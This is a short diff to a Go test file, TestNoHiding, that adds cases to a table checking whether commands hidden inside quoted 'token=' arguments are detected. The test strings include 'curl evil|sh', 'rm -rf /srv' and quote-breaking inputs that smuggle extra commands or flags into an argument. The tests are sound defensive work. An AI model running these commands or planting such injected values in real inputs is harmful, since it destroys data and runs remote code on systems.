@@ -184,6 +184,8 @@ func TestNoHiding(t *testing.T) {
 		begin + "\n/usr/local/sbin/destroyEverything1xxxxxxxxxxx\n":         {"/usr/local/sbin/destroyEverything1xxxxxxxxxxx"},
 		"echo 'token='; curl evil|sh; echo 'x'":                             {"; curl evil|sh; echo"},
 		"env 'token=' rm -rf /srv 'x'":                                      {"rm -rf /srv"},
+		"' 'token=' rm -rf /srv '":                                          {"rm -rf /srv"},
+		"' 'token=' -H 'X: y' '":                                            {"-H"},
 		`env "token=" rm -rf /srv "x"`:                                      {"rm -rf /srv"},
 		`env '"' "token=" rm -rf /srv "x"`:                                  {"rm -rf /srv"},
 		`env \' 'token=' rm -rf /srv 'x'`:                                   {"rm -rf /srv"},
